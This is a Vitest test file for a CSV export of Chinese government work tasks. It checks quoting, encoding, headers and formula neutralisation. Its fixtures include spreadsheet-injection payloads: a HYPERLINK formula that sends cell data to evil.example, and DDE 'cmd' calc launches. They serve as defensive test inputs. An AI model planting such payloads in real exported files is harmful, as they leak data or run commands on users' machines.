import { describe, expect, test } from 'vitest';
import { CSV_COLUMNS, type CsvColumn } from '../../../lib/export/columns';
import { csvFileName, neutraliseFormula, tasksToCsv } from '../../../lib/export/csv';
import { EN_HEADER, parseCsv, rowEnds, ZH_HEADER } from './csvReading';
import { makeTask } from './fixtures';

// Text that breaks naive CSV writers or that a spreadsheet would run as a formula: [task text, cell as expected]
const HOSTILE: Array<[string, string]> = [
  ['甲,乙,丙三项工作', '甲,乙,丙三项工作'],
  ['他说"要落实"，"抓到底"', '他说"要落实"，"抓到底"'],
  ['第一行\n第二行', '第一行\n第二行'],
  ['第一行\r\n第二行', '第一行\r\n第二行'],
  ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '\'=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['\t以制表符开头', "'\t以制表符开头"],
  ['\r以回车开头', "'\r以回车开头"],
  ['完成得好👍🏻继续', '完成得好👍🏻继续'],
  ['生僻字𠀀与𪚥', '生僻字𠀀与𪚥'],
  ['a=b 不在开头', 'a=b 不在开头'],
  ['第一行\n=1+1', '第一行\n=1+1'],
];

describe('CSV bytes', () => {
  test('starts with the UTF-8 byte-order mark EF BB BF and ends every row with CRLF', () => {
    const tasks = HOSTILE.map(([text]) => makeTask({ text }));
    const bytes = new TextEncoder().encode(tasksToCsv(tasks, 'zh'));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect([...bytes.slice(-2)]).toEqual([0x0d, 0x0a]);
    const ends = rowEnds(bytes.slice(3));
    expect(ends).toHaveLength(tasks.length + 1);
    expect(new Set(ends)).toEqual(new Set(['CRLF']));
  });

  test('a plain task gives exactly the expected header and row bytes', () => {
    const task = makeTask({
      text: '年底前完成老旧小区改造',
      units: ['住房城乡建设局', '财政局'],
      deadlines: [
        { text: '年底前', kind: 'date', due: '2025-12-31' },
        { text: '每季度', kind: 'recurring' },
      ],
      targets: ['改造200个小区', '惠及3万户'],
      due: '2025-12-31',
      status: 'doing',
      note: '已报市政府',
      source: { url: 'https://www.example.gov.cn/a.html?id=1&p=2', title: '市长讲话' },
      createdAt: new Date(2025, 0, 2, 9, 5, 59).getTime(),
    });
    const expected =
      '\uFEFF序号,任务内容,责任单位,完成时限,截止日期,目标指标,状态,备注,来源标题,来源链接,摘录时间\r\n' +
      '1,年底前完成老旧小区改造,住房城乡建设局、财政局,年底前、每季度,2025-12-31,改造200个小区、惠及3万户,进行中,已报市政府,市长讲话,https://www.example.gov.cn/a.html?id=1&p=2,2025-01-02 09:05\r\n';
    expect([...new TextEncoder().encode(tasksToCsv([task], 'zh'))]).toEqual([...new TextEncoder().encode(expected)]);
  });

  test('quotes a field with a comma, quote or line break and doubles its quotes (RFC 4180)', () => {
    const csv = tasksToCsv([makeTask({ text: '甲,"乙"\n丙', note: '无需引号' })], 'zh');
    expect(csv).toContain(',"甲,""乙""\n丙",');
    expect(csv).toContain(',无需引号,');
  });
});

describe('CSV round trip through papaparse', () => {
  test('every hostile text comes back as written, formula-like cells with one leading apostrophe', () => {
    const tasks = HOSTILE.map(([text]) => makeTask({ text }));
    const rows = parseCsv(tasksToCsv(tasks, 'zh'));
    expect(rows[0]).toEqual(ZH_HEADER);
    expect(rows.slice(1).map((row) => row[1])).toEqual(HOSTILE.map(([, cell]) => cell));
    expect(rows.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((_, i) => String(i + 1)));
  });

  test('formula-like units, targets, notes, titles and deadline texts are neutralised too', () => {
    const task = makeTask({
      units: ['=1+1', '财政局'],
      targets: ['-5%以内'],
      deadlines: [{ text: '+3个月', kind: 'placeholder' }],
      note: '@某人 请跟进',
      source: { url: 'https://x.example/', title: '=cmd|"/c calc"!A1' },
    });
    const [, row] = parseCsv(tasksToCsv([task], 'zh'));
    expect(row[2]).toBe("'=1+1、财政局");
    expect(row[3]).toBe("'+3个月");
    expect(row[5]).toBe("'-5%以内");
    expect(row[7]).toBe("'@某人 请跟进");
    expect(row[8]).toBe('\'=cmd|"/c calc"!A1');
    expect(row[9]).toBe('https://x.example/');
  });

  test('责任单位 as written by default, or normalised: one name per unit in the whole file, unknown ones as they are', () => {
    const tasks = [
      makeTask({ id: 'a', units: ['县发改局', '县发展改革委', '县环保局', '乡企局'] }),
      makeTask({ id: 'b', units: ['发改局', '县财政局'] }),
      makeTask({ id: 'c', units: ['县发展和改革局'] }),
    ];
    expect(parseCsv(tasksToCsv(tasks, 'zh')).slice(1).map((row) => row[2])).toEqual([
      '县发改局、县发展改革委、县环保局、乡企局',
      '发改局、县财政局',
      '县发展和改革局',
    ]);
    // the county's 发改 office is spelt as a 局 twice (县发改局, 县发展和改革局) and as a 委 once: 局 wins; 发改局 joins it
    expect(parseCsv(tasksToCsv(tasks, 'zh', CSV_COLUMNS, 'normalised')).slice(1).map((row) => row[2])).toEqual([
      '县发展和改革局、县生态环境局、乡企局',
      '县发展和改革局、县财政局',
      '县发展和改革局',
    ]);
  });

  test('empty lists and a missing due date give empty cells', () => {
    const task = makeTask({ units: [], targets: [], deadlines: [], due: undefined });
    const [, row] = parseCsv(tasksToCsv([task], 'zh'));
    expect([row[2], row[3], row[4], row[5]]).toEqual(['', '', '', '']);
  });

  test('a deadline without a calendar date (汛期前): its words in 完成时限, 截止日期 empty', () => {
    const task = makeTask({ deadlines: [{ text: '汛期前', kind: 'date' }], due: undefined });
    const [, row] = parseCsv(tasksToCsv([task], 'zh'));
    expect([row[3], row[4]]).toEqual(['汛期前', '']);
  });

  test('header row and status labels in Chinese and in English', () => {
    const tasks = [makeTask({ status: 'todo' }), makeTask({ status: 'doing' }), makeTask({ status: 'done' })];
    const zh = parseCsv(tasksToCsv(tasks, 'zh'));
    const en = parseCsv(tasksToCsv(tasks, 'en'));
    expect(zh[0]).toEqual(ZH_HEADER);
    expect(en[0]).toEqual(EN_HEADER);
    expect(zh.slice(1).map((row) => row[6])).toEqual(['待办', '进行中', '已完成']);
    expect(en.slice(1).map((row) => row[6])).toEqual(['To do', 'In progress', 'Done']);
    // only headers and status change with the language
    expect(zh.slice(1).map((row) => row.filter((_, i) => i !== 6))).toEqual(en.slice(1).map((row) => row.filter((_, i) => i !== 6)));
  });

  test('every row has as many cells as the header, and the column table drives both', () => {
    const tasks = HOSTILE.map(([text]) => makeTask({ text }));
    for (const lang of ['zh', 'en'] as const) {
      const rows = parseCsv(tasksToCsv(tasks, lang));
      expect(rows).toHaveLength(tasks.length + 1);
      for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    }
    const twoColumns: CsvColumn[] = [
      { key: 'a', header: { zh: '甲', en: 'A' }, cell: (task) => task.id },
      { key: 'b', header: { zh: '乙', en: 'B' }, cell: (_task, { index }) => `#${index}` },
    ];
    expect(parseCsv(tasksToCsv([makeTask({ id: 'x1' }), makeTask({ id: 'x2' })], 'en', twoColumns))).toEqual([
      ['A', 'B'],
      ['x1', '#0'],
      ['x2', '#1'],
    ]);
  });

  test('rows keep the order they are given in (what the popup shows)', () => {
    const tasks = [makeTask({ text: '丙' }), makeTask({ text: '甲' }), makeTask({ text: '乙' })];
    expect(parseCsv(tasksToCsv(tasks, 'zh')).slice(1).map((row) => row[1])).toEqual(['丙', '甲', '乙']);
  });
});

describe('formula neutralisation', () => {
  test.each(['=', '+', '-', '@', '\t', '\r'])('a cell starting with %j gets one leading apostrophe', (start) => {
    expect(neutraliseFormula(`${start}X`)).toBe(`'${start}X`);
  });
  test('other cells are left exactly as they are', () => {
    for (const cell of ['', '普通文本', ' =1', '＝1', "'已有引号", '1-2', '\n=1']) expect(neutraliseFormula(cell)).toBe(cell);
  });
});

test('file name is 落实任务_YYYY-MM-DD.csv in local time', () => {
  expect(csvFileName(new Date(2025, 0, 9, 23, 59))).toBe('落实任务_2025-01-09.csv');
  expect(csvFileName(new Date(2026, 10, 26, 0, 0))).toBe('落实任务_2026-11-26.csv');
});
